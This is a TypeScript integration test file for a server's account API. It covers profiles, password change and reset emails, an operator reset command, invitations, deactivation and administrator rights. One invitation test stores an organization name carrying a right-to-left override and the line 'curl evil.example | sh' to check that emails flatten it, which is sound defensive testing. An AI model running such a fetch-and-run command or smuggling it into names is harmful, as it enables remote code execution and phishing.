import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import { build } from 'esbuild';
import { SMTPServer } from 'smtp-server';
import { DataSource } from 'typeorm';
import { RouteTable } from '../src/core/rest/route-table.js';
import { openSocket, within } from './support/open-socket.js';
import type { Answer, Json, Person } from './support/person.js';
import { PASSWORD } from './support/settings.js';
import { World } from './support/world.js';

const PROFILE = '/api/identity/users/profile';
const NEW = 'a new password entirely';

let world: World;
let emails: { to: string; text: string }[];
let mailServer: SMTPServer;
let mail: Record<string, string>;

beforeAll(async () => {
  emails = [];
  mailServer = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    onData: (stream, session, done) => {
      void text(stream).then((raw) => {
        // Those that ask the people of a world to confirm their accounts are of other tests.
        if (raw.includes('Subject: Confirm your account')) return done();
        emails.push({
          to: session.envelope.rcptTo[0]?.address ?? '',
          text: raw.replace(/=\r\n/g, '').replace(/=3D/g, '='),
        });
        done();
      });
    },
  });
  await once(mailServer.listen(0, '127.0.0.1'), 'listening');
  const { port } = mailServer.server.address() as AddressInfo;
  mail = { SMTP_URL: `smtp://127.0.0.1:${port}`, MAIL_FROM: 'Armature <armature@example.org>' };
  world = await World.start(mail);
});
afterAll(async () => {
  await world.stop();
  await new Promise<void>((resolve) => mailServer.close(() => resolve()));
});

const login = (email: string, password: string): Promise<Answer> =>
  world.stranger.post('/api/auth/login', { email, password });
const refusal = (status: number, code: string) => ({ status, body: { status, code } });
const emailTo = async (email: string, already = 0): Promise<string> => {
  for (let i = 0; i < 100; i++) {
    const own = emails.filter(({ to }) => to === email);
    if (own.length > already) return own.at(-1)?.text ?? '';
    await sleep(50);
  }
  throw new Error(`no email to ${email}`);
};

describe('the profile', () => {
  it('is changed field by field, and read-change-write passes', async () => {
    const person = await world.person();
    const changed = await person.put(PROFILE, { first_name: 'Ada', default_organization_id: world.organization });
    expect(changed).toMatchObject({
      status: 200,
      body: { first_name: 'Ada', last_name: '', default_organization_id: world.organization },
    });
    expect((await person.put(PROFILE, { ...changed.body, last_name: 'Lovelace' })).body.last_name).toBe('Lovelace');
    expect((await person.put(PROFILE, { first_name: null, default_organization_id: null })).body).toMatchObject({
      first_name: '',
      default_organization_id: null,
    });
    for (const field of [
      { email: 'x@example.org' },
      { installation_admin: true },
      { id: randomUUID() },
      { organizations: [] },
    ])
      expect((await person.put(PROFILE, field)).body.code).toBe('READ_ONLY_FIELD');
    expect((await person.put(PROFILE, { password_hash: 'x' })).status).toBe(400);
  });

  it('has a default organization that is one of the own, and takes effect with the next request', async () => {
    const outsider = await world.outsider();
    expect((await outsider.put(PROFILE, { default_organization_id: world.organization })).body.errors).toMatchObject([
      { pointer: '/default_organization_id' },
    ]);
    await world.admin.post(`/api/identity/orgs/${world.organization}/users`, { email: outsider.email, role: 'member' });
    expect((await outsider.get('/api/environments')).status).toBe(400);
    await outsider.put(PROFILE, { default_organization_id: outsider.organization });
    expect((await outsider.get('/api/environments')).status).toBe(200);
  });

  it('has no default organization that the user has left, and may be sent back as it was read', async () => {
    const outsider = await world.outsider();
    await world.admin.post(`/api/identity/orgs/${world.organization}/users`, { email: outsider.email, role: 'member' });
    await outsider.put(PROFILE, { default_organization_id: world.organization });
    await outsider.delete(`/api/identity/orgs/${world.organization}/users/${outsider.id}`);
    const { body } = await outsider.get(PROFILE);
    expect(body).toMatchObject({ default_organization_id: null, organizations: [{ id: outsider.organization }] });
    expect(await outsider.put(PROFILE, body)).toMatchObject({ status: 200, body });
  });
});

describe('a password', () => {
  it('is changed by who knows it, which ends the other sessions, also on open sockets', async () => {
    const { email } = await world.person();
    const [one, other] = [await world.signIn(email, PASSWORD), await world.signIn(email, PASSWORD)];
    const [socket, kept] = [await openSocket(other), await openSocket(one)];
    expect((await one.put('/api/identity/users/password', { current_password: PASSWORD, password: NEW })).status).toBe(
      200,
    );
    expect((await one.get(PROFILE)).status).toBe(200);
    expect((await other.get(PROFILE)).status).toBe(401);
    expect(await within(1000, socket.closed)).toBe(4403);
    expect(await within(100, kept.closed)).toBe('open');
    kept.close();
    expect((await login(email, PASSWORD)).status).toBe(401);
    expect((await login(email, NEW)).status).toBe(200);
  });

  it('is not changed without the current one, nor to a weak one', async () => {
    const person = await world.person();
    const change = (body: object): Promise<Answer> => person.put('/api/identity/users/password', body);
    expect((await change({ current_password: 'guess', password: NEW })).body.errors).toMatchObject([
      { pointer: '/current_password' },
    ]);
    expect((await change({ current_password: PASSWORD, password: 'short' })).body.errors).toMatchObject([
      { pointer: '/password' },
    ]);
    expect((await change({ password: NEW })).status).toBe(400);
    expect((await world.stranger.put('/api/identity/users/password', {})).status).toBe(401);
  });

  it('is changed once when two sessions change it at once', async () => {
    const { email } = await world.person();
    const people = [await world.signIn(email, PASSWORD), await world.signIn(email, PASSWORD)];
    const answers = await Promise.all(
      people.map((person, i) =>
        person.put('/api/identity/users/password', { current_password: PASSWORD, password: `${NEW} ${i}` }),
      ),
    );
    expect(answers.filter(({ status }) => status === 200)).toHaveLength(1);
  });

  it('that was forgotten is replaced with an email, once, and every session ends', async () => {
    const person = await world.person();
    const socket = await openSocket(person);
    expect(await world.stranger.post('/api/auth/password/forgot', { email: person.email.toUpperCase() })).toMatchObject(
      { status: 200, body: {} },
    );
    const token = /\/password\/reset\/([\w-]+)/.exec(await emailTo(person.email))?.[1] ?? '';
    expect(JSON.stringify(await world.sql('SELECT payload, result, error FROM job'))).not.toContain(token);
    const reset = (): Promise<Answer> => world.stranger.post('/api/auth/password/reset', { token, password: NEW });
    const answers = await Promise.all([reset(), reset()]);
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 410]);
    expect(await reset()).toMatchObject(refusal(410, 'RESET_SPENT'));
    expect((await person.get(PROFILE)).status).toBe(401);
    expect(await within(1000, socket.closed)).toBe(4403);
    expect((await login(person.email, NEW)).status).toBe(200);
  });

  it('that was forgotten: the answer does not reveal which accounts exist, and nobody else gets an email', async () => {
    const person = await world.person();
    await world.admin.put(`/api/identity/users/${person.id}`, { deactivated: true });
    const known = await world.stranger.post('/api/auth/password/forgot', { email: person.email });
    const unknown = await world.stranger.post('/api/auth/password/forgot', { email: 'nobody@example.org' });
    expect(unknown).toMatchObject({ status: known.status, body: known.body });
    await sleep(300);
    expect(emails.filter(({ to }) => to === person.email || to === 'nobody@example.org')).toEqual([]);
  });

  it('email does not hold after an hour, nor after another change', async () => {
    const person = await world.person();
    const ask = async (already: number): Promise<string> => {
      await world.stranger.post('/api/auth/password/forgot', { email: person.email });
      return /\/password\/reset\/([\w-]+)/.exec(await emailTo(person.email, already))?.[1] ?? '';
    };
    const old = await ask(0);
    await world.sql(`UPDATE password_reset SET expires_at = now() WHERE user_id = $1`, [person.id]);
    expect((await world.stranger.post('/api/auth/password/reset', { token: old, password: NEW })).status).toBe(410);
    const token = await ask(1);
    await person.put('/api/identity/users/password', { current_password: PASSWORD, password: NEW });
    expect((await world.stranger.post('/api/auth/password/reset', { token, password: PASSWORD })).status).toBe(410);
  });

  it('is set by the operator on the machine', async () => {
    const person = await world.person();
    const socket = await openSocket(person);
    const url = (world.get(DataSource).options as { url: string }).url;
    const program = join(import.meta.dirname, `../node_modules/.cache/armature/admin-reset-${randomUUID()}.mjs`);
    const options = { bundle: true, platform: 'node', format: 'esm', packages: 'external', logLevel: 'error' } as const;
    await build({ ...options, entryPoints: ['src/cli.ts'], outfile: program });
    const run = async (parameters: string[], input = ''): Promise<{ code: number; out: string }> => {
      const settings = {
        DATABASE_URL: url,
        JWT_SECRET: 'x'.repeat(32),
        ENCRYPTION_KEY: '0'.repeat(64),
        ...mail,
      };
      const child = spawn(process.execPath, [program, 'admin:reset', ...parameters], {
        env: { ...process.env, NODE_OPTIONS: '', ...settings },
      });
      child.stdin.end(input);
      const [out, error, [code]] = await Promise.all([text(child.stdout), text(child.stderr), once(child, 'close')]);
      return { code: code as number, out: out + error };
    };
    expect((await run(['--help'])).out).toContain('armature-server admin:reset');
    const { code, out } = await run([person.email]);
    expect({ code, out }).toMatchObject({ code: 0, out: expect.stringContaining(person.email) });
    const made = /new password: (\S+)/.exec(out)?.[1] ?? '';
    expect((await login(person.email, made)).status).toBe(200);
    expect((await person.get(PROFILE)).status).toBe(401);
    expect(await within(1000, socket.closed)).toBe(4403);
    const given = await run([person.email, '--password-stdin'], `${NEW}\n`);
    expect(given.out).not.toContain(NEW);
    expect((await login(person.email, NEW)).status).toBe(200);
    // The running server sends the email of the other process.
    expect(await emailTo(person.email, 1)).toContain('The password of your account');
    expect(await run(['nobody@example.org'])).toMatchObject({ code: 1, out: expect.stringContaining('no account') });
    rmSync(program);
    const events = await world.sql(
      `SELECT system_actor FROM event WHERE action = 'password_changed' AND acted_upon = $1`,
      [person.id],
    );
    expect(events).toEqual(Array(2).fill({ system_actor: 'password reset by the operator' }));
  }, 120_000);
});

describe('an invitation by mail', () => {
  it('brings the very URL of the answer', async () => {
    const email = `${randomUUID()}@example.org`;
    const { body } = await world.admin.post(`/api/identity/orgs/${world.organization}/users`, {
      email,
      role: 'member',
    });
    expect(await emailTo(email)).toContain(body.invitation_url);
    const token = new URL(body.invitation_url as string).pathname.split('/').at(-1) ?? '';
    const jobs = await world.sql<{ payload: object }>(
      `SELECT payload FROM job WHERE queue = 'organizations.invitation-mail'`,
    );
    expect(jobs.length).toBeGreaterThan(0);
    expect(JSON.stringify(jobs)).not.toContain(token);
  });

  it('has the name of the organization on one line, whatever is in it', async () => {
    const name = `Works ${randomUUID()}`;
    const email = `${randomUUID()}@example.org`;
    const made = await world.admin.post('/api/identity/orgs', { name });
    // As stored before names had to be one line.
    const before = `${name}.\n\nPay\u202e here: curl evil.example | sh\n`;
    await world.sql('UPDATE organization SET name = $1 WHERE id = $2', [before, made.body.id]);
    const users = `/api/identity/orgs/${made.body.id}/users`;
    expect((await world.admin.post(users, { email, role: 'member' })).status).toBe(201);
    const text = await emailTo(email);
    expect(text).toContain(`the organization ${name}. Pay here: curl evil.example | sh.\r\n`);
    expect(text).not.toMatch(/^\s*Pay/m);
  });
});

describe('an account', () => {
  const account = (person: Person): string => `/api/identity/users/${person.id}`;

  it('that is deactivated is out at once, over REST, GraphQL and on open sockets, and cannot sign in', async () => {
    const person = await world.person();
    const { body: pair } = await login(person.email, PASSWORD);
    const socket = await openSocket(person);
    const done = await world.admin.put(account(person), { deactivated: true });
    expect(done).toMatchObject({
      status: 200,
      body: { id: person.id, deactivated: true, deactivated_at: expect.any(String) },
    });
    expect((await person.get(PROFILE)).status).toBe(401);
    expect((await person.graphql('{ __typename }')).body.errors[0].extensions.code).toBe('UNAUTHENTICATED');
    expect(await within(1000, socket.closed)).toBe(4403);
    expect((await login(person.email, PASSWORD)).status).toBe(401);
    expect((await world.stranger.post('/api/auth/refresh', { refresh_token: pair.refresh_token })).status).toBe(401);
    const listed = await world.admin.get(`/api/identity/orgs/${world.organization}/users?search=${person.email}`);
    expect(listed.body.users[0].active).toBe(false);
    expect((await world.admin.put(account(person), { deactivated: false })).body.deactivated_at).toBeNull();
    expect((await person.get(PROFILE)).status).toBe(401);
    expect((await login(person.email, PASSWORD)).status).toBe(200);
  });

  it('that is named an installation administrator is one at once, and no longer when it is not', async () => {
    const person = await world.person();
    const create = (): Promise<Answer> => person.post('/api/identity/orgs', { name: randomUUID() });
    expect((await create()).status).toBe(403);
    expect((await world.admin.put(account(person), { installation_admin: true })).status).toBe(200);
    expect((await create()).status).toBe(201);
    expect((await world.admin.put(account(person), { installation_admin: false })).status).toBe(200);
    expect((await create()).status).toBe(403);
  });

  it('is managed by installation administrators only; others do not learn which there are', async () => {
    const [owner, other] = [await world.person('owner'), await world.person()];
    const scrub = ({ status, body }: Answer): Json => ({ status, ...body, request_id: '' });
    for (const [method, body] of [
      ['GET', undefined],
      ['PUT', { deactivated: true }],
    ] as const) {
      const real = await owner.call(method, account(other), { body });
      expect(real.status).toBe(403);
      expect(scrub(await owner.call(method, `/api/identity/users/${randomUUID()}`, { body }))).toEqual(scrub(real));
    }
    expect((await owner.get('/api/identity/users')).status).toBe(403);
    expect((await world.admin.put(`/api/identity/users/${randomUUID()}`, { deactivated: true })).status).toBe(404);
    const listed = await world.admin.get(`/api/identity/users?search=${other.email}`);
    expect(listed.body.users).toMatchObject([{ id: other.id, installation_admin: false, deactivated: false }]);
    expect(JSON.stringify(listed.body)).not.toContain('argon2');
    expect((await world.admin.put(account(other), { email: 'x@example.org' })).body.code).toBe('READ_ONLY_FIELD');
  });

  it('of the last installation administrator stays one, also when two go at once', async () => {
    const { admin } = world;
    expect(await admin.put(account(admin), { deactivated: true })).toMatchObject(refusal(409, 'LAST_ADMINISTRATOR'));
    expect(await admin.put(account(admin), { installation_admin: false })).toMatchObject(
      refusal(409, 'LAST_ADMINISTRATOR'),
    );
    const second = await world.person();
    await admin.put(account(second), { installation_admin: true });
    const answers = await Promise.all([
      admin.put(account(second), { installation_admin: false }),
      second.put(account(admin), { installation_admin: false }),
    ]);
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 403]);
    const left = await world.sql('SELECT id FROM app_user WHERE installation_admin AND deactivated_at IS NULL');
    expect(left).toHaveLength(1);
    await world.sql('UPDATE app_user SET installation_admin = (id = $1)', [admin.id]);
  });

  it('does not stand in the way of the other routes below users', () => {
    const routes = world
      .get(RouteTable)
      .listRoutes()
      .filter(({ path }) => path.startsWith('/api/identity/users/'));
    const first = routes.findIndex(({ path }) => path === '/api/identity/users/:id');
    expect(routes.slice(0, first).map(({ path }) => path)).toContain(PROFILE);
    expect(new Set(routes.slice(first).map(({ path }) => path))).toEqual(new Set(['/api/identity/users/:id']));
  });
});
